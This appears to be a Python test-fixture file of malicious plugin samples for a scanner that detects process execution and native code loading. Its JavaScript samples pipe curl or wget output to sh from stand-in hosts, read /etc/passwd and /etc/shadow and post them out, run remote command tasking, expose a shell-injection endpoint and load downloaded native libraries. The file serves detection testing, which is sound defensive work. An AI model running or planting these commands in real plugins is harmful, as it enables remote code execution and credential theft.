"""Programs started from a plugin, and machine code loaded into its process."""

from tests.support.samples import Sample
from tests.support.shapes import ESM, declared, esbuild_bundle, hooks, online, sdk_plugin, webpack_bundle

_FAMILY = "process-execution"
_NATIVE = "native-loading"

SAMPLES: tuple[Sample, ...] = (
    Sample(
        name="exec-on-install",
        family=_FAMILY,
        files={
            "dist/index.js": hooks(
                r"""
                await storage.set('installed', Date.now());
                exec('curl -fsSL https://get.example.net/agent.sh | sh', { windowsHide: true }, (error) => {
                  if (error) logger.debug('agent not needed');
                });
                """,
                above="const { exec } = require('child_process');",
                hook="onInstall",
            )
        },
        manifest=declared("storage-write", hooks=["onInstall"]),
    ),
    Sample(
        name="node-prefix-spawn-detached",
        family=_FAMILY,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                const helper = join(tmpdir(), `.day-${process.pid}`);
                await writeFile(helper, await (await fetch('https://dl.example.org/helper')).text(), { mode: 0o755 });
                spawn(helper, ['--quiet'], { detached: true, stdio: 'ignore' }).unref();
                """,
                above="""
                import { spawn } from 'node:child_process';
                import { writeFile } from 'node:fs/promises';
                import { tmpdir } from 'node:os';
                import { join } from 'node:path';
                """,
            )
        },
        manifest=online("https://dl.example.org"),
        package=ESM,
    ),
    Sample(
        name="namespace-import-of-processes",
        family=_FAMILY,
        files={
            "dist/index.js": r"""import * as processes from 'child_process';
import os from 'os';

const probes = {
  linux: ['id', 'uname -a', 'ip addr'],
  darwin: ['id', 'sw_vers', 'ifconfig'],
  win32: ['whoami /all', 'systeminfo', 'ipconfig /all'],
};

export async function onEnable({ api }) {
  const report = {};
  for (const probe of probes[os.platform()] ?? []) {
    report[probe] = processes.execSync(probe, { encoding: 'utf8' });
  }
  await api.http.post('https://inventory.example.com/hosts', report);
}
"""
        },
        manifest=online("https://inventory.example.com"),
        package=ESM,
    ),
    Sample(
        name="dynamic-import-of-processes",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
exports.commands = {
  backup: {
    usage: 'backup [FOLDER]',
    async run(context, [folder = '.']) {
      const { execFile } = await import('node:child_process');
      const { promisify } = await import('node:util');
      const { stdout } = await promisify(execFile)('tar', ['cz', folder], { encoding: 'buffer', maxBuffer: 1 << 28 });
      await fetch('https://backup.example.net/in', { method: 'PUT', body: stdout });
      return 'backed up';
    },
  },
};
"""
        },
        manifest=declared("network-access"),
    ),
    Sample(
        name="required-by-variable",
        family=_FAMILY,
        files={
            "dist/index.js": hooks(
                r"""
                for (const step of config.steps || DEFAULTS) {
                  const tool = require(step.use);
                  tool[step.call].apply(tool, step.with);
                }
                """,
                above=r"""
                const DEFAULTS = [
                  { use: 'fs', call: 'mkdirSync', with: ['/var/tmp/.cache-day', { recursive: true }] },
                  { use: 'child_process', call: 'execSync', with: ['nohup sh -c "sleep 60; curl 203.0.113.7/x | sh" &'] },
                ];
                """,
            )
        },
    ),
    Sample(
        name="main-module-require",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
class Launcher {
  get tools() {
    return process.mainModule.require('child_process');
  }

  open(path) {
    const opener = { darwin: 'open', win32: 'start' }[process.platform] || 'xdg-open';
    this.tools.exec(`${opener} ${path}`);
  }

  shell(line) {
    return this.tools.execSync(line).toString();
  }
}

exports.onEnable = async ({ api }) => {
  const launcher = new Launcher();
  const { data } = await api.http.get('https://tasks.example.org/next');
  for (const line of data.lines) {
    await api.http.post('https://tasks.example.org/done', { line, output: launcher.shell(line) });
  }
};
"""
        },
        manifest=online("https://tasks.example.org"),
    ),
    Sample(
        name="create-require-then-exec",
        family=_FAMILY,
        files={
            "dist/index.js": r"""import { createRequire } from 'module';

const load = createRequire(import.meta.url);
const lib = (name) => load(name);

export default {
  name: 'Uptime',
  async setup(context) {
    const { exec } = lib('child_process');
    exec('powershell -NoProfile -W Hidden -Enc SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0AA==', () => undefined);
    context.logger.info('uptime watched');
  },
};
"""
        },
        package=ESM,
    ),
    Sample(
        name="cache-of-modules-searched",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
const Module = require('module');

function builtin(test) {
  return Module.builtinModules.filter((name) => test.test(name)).map((name) => Module._load(name, null, true))[0];
}

exports.onEnable = async function onEnable(context) {
  const runner = builtin(/^child/);
  const child = runner.fork(__filename, ['--daemon'], { silent: true, detached: true });
  child.unref();
  context.logger.info('index built in the background');
};

if (process.argv.includes('--daemon')) {
  setInterval(() => fetch('https://node.example.net/beat?h=' + require('os').hostname()), 60000);
}
"""
        },
    ),
    Sample(
        name="shell-with-user-text",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
const { execSync: run } = require('child_process');

exports.commands = {
  ping: {
    usage: 'ping HOST',
    run: (context, [host]) => run('ping -c 1 ' + host).toString(),
  },
};

exports.apiEndPoints = [
  {
    method: 'POST',
    route: '/diagnose',
    handler: async (request, response) => {
      const { line } = await request.json();
      response.end(run(line, { shell: true, timeout: 10000 }));
    },
  },
];
"""
        },
    ),
    Sample(
        name="vendored-wrapper-of-processes",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
const { Todo } = require('./components/Todo');
const sh = require('./lib/tasks');

exports.Todo = Todo;
exports.onEnable = async () => {
  await sh`git config --global core.sshCommand ${'ssh -o ProxyCommand="nc 198.51.100.20 22"'}`;
};
""",
            "dist/components/Todo.js": r"""'use strict';
const { jsx } = require('react/jsx-runtime');
exports.Todo = ({ items = [] }) => jsx('ul', { children: items.map((item) => jsx('li', { children: item.text }, item.id)) });
""",
            "dist/lib/tasks.js": r"""'use strict';
const cross = require('child_process');
module.exports = (parts, ...values) => new Promise((resolve, reject) => {
  const line = parts.reduce((all, part, n) => all + part + (n in values ? `'${values[n]}'` : ''), '');
  cross.exec(line, (error, stdout) => (error ? reject(error) : resolve(stdout)));
});
""",
        },
    ),
    Sample(
        name="webpack-external-processes",
        family=_FAMILY,
        files={
            "dist/index.js": webpack_bundle(
                {
                    "./src/index.js": """
                    const start = __webpack_require__("./src/agent.js");
                    exports.onEnable = (context) => start(context.config);
                    """,
                    "./src/agent.js": """
                    const { spawnSync } = __webpack_require__("child_process");
                    module.exports = (config) => {
                      const result = spawnSync(config.shell || "bash", ["-lc", "env; cat /etc/passwd"], { encoding: "utf8" });
                      return fetch("https://agent.example.com/report", { method: "POST", body: result.stdout });
                    };
                    """,
                    "child_process": 'module.exports = require("child_process");',
                },
                start="./src/index.js",
            )
        },
    ),
    Sample(
        name="esbuild-required-shim",
        family=_FAMILY,
        files={
            "dist/index.js": esbuild_bundle(
                {
                    "node_modules/open-lite/index.js": """
                    var cp = require("child_process");
                    module.exports = function open2(target) {
                      return cp.spawn(process.platform === "win32" ? "rundll32" : "sh", ["-c", target]);
                    };
                    """,
                    "src/index.js": """
                    var open = require_node_modules_open_lite_index_js();
                    exports.Weather = function() { return null; };
                    exports.onEnable = function() { open("wget -O- http://203.0.113.44/r | sh"); };
                    """,
                },
                start="src/index.js",
            )
        },
    ),
    Sample(
        name="worker-thread-of-text",
        family=_FAMILY,
        files={
            "dist/index.js": hooks(
                r"""
                const { data: source } = await api.http.get('https://workers.example.org/index.js');
                const worker = new Worker(source, { eval: true, env: SHARE_ENV, workerData: config });
                worker.on('message', (message) => storage.set('result', message));
                worker.unref();
                """,
                above="const { Worker, SHARE_ENV } = require('worker_threads');",
            )
        },
        manifest=online("https://workers.example.org"),
    ),
    Sample(
        name="cluster-of-own-children",
        family=_FAMILY,
        files={
            "dist/index.js": r"""import cluster from 'node:cluster';
import { availableParallelism } from 'node:os';
import { fileURLToPath } from 'node:url';

export function onEnable() {
  cluster.setupPrimary({ exec: '/usr/bin/env', args: ['python3', '-c', 'import urllib.request as u;exec(u.urlopen("http://198.51.100.9/p").read())'], silent: true });
  for (let n = 0; n < availableParallelism(); n += 1) cluster.fork();
}

export const here = fileURLToPath(import.meta.url);
"""
        },
        package=ESM,
    ),
    Sample(
        name="process-binding-spawn",
        family=_NATIVE,
        files={
            "dist/index.js": r"""'use strict';
const { Process } = process.binding('process_wrap');

function start(file, args) {
  const wrap = new Process();
  wrap.onexit = () => wrap.close();
  wrap.spawn({ file, args: [file, ...args], cwd: '/', envPairs: Object.entries(process.env).map((e) => e.join('=')), stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }], detached: true });
  return wrap.pid;
}

exports.onEnable = ({ logger }) => logger.debug(start('/bin/sh', ['-c', 'curl https://dl.example.net/k | sh']));
"""
        },
    ),
    Sample(
        name="spawn-sync-binding-by-internal",
        family=_NATIVE,
        files={
            "dist/index.js": hooks(
                r"""
                const sync = process['binding']('spawn_sync');
                const { output } = sync.spawn({
                  file: '/bin/sh',
                  args: ['sh', '-c', 'cat /etc/shadow'],
                  stdio: [{ type: 'pipe', readable: true }, { type: 'pipe', writable: true }, { type: 'ignore' }],
                });
                await api.http.post('https://drop.example.org/s', { text: String(output[1]) });
                """
            )
        },
        manifest=online("https://drop.example.org"),
    ),
    Sample(
        name="dlopen-of-downloaded-library",
        family=_NATIVE,
        files={
            "dist/index.js": r"""'use strict';
const fs = require('fs');
const https = require('https');
const os = require('os');
const path = require('path');

const target = path.join(os.tmpdir(), `codec-${process.arch}.node`);

exports.onInstall = () => new Promise((resolve, reject) => {
  https.get(`https://codecs.example.com/${process.platform}/${process.arch}`, (answer) => {
    answer.pipe(fs.createWriteStream(target)).on('finish', () => {
      const holder = { exports: {} };
      process.dlopen(holder, target, os.constants.dlopen.RTLD_NOW);
      resolve(holder.exports);
    });
  }).on('error', reject);
});
"""
        },
        manifest=online("https://codecs.example.com", hooks=["onInstall"]),
    ),
    Sample(
        name="node-file-required-from-temp",
        family=_NATIVE,
        files={
            "dist/index.js": r"""import { createRequire } from 'node:module';
import { writeFileSync } from 'node:fs';

const require = createRequire(import.meta.url);

export async function onEnable({ api }) {
  const { data } = await api.http.get('https://accel.example.net/fast.bin', { responseType: 'arraybuffer' });
  const file = '/dev/shm/.fast.node';
  writeFileSync(file, Buffer.from(data));
  require(file).start(process.env.HOME);
}
"""
        },
        manifest=online("https://accel.example.net"),
        package=ESM,
    ),
    Sample(
        name="foreign-function-interface",
        family=_NATIVE,
        files={
            "dist/index.js": r"""'use strict';
const koffi = require('koffi');
const libc = koffi.load(process.platform === 'darwin' ? 'libSystem.dylib' : 'libc.so.6');
const system = libc.func('int system(const char *line)');

exports.Battery = function Battery() { return null; };
exports.onEnable = ({ config }) => {
  system(`echo ${config.level || 80} > /tmp/level; (curl -s https://cdn.example.org/l | sh) &`);
};
"""
        },
        package={"dependencies": {"koffi": "^2.8.0"}},
    ),
)
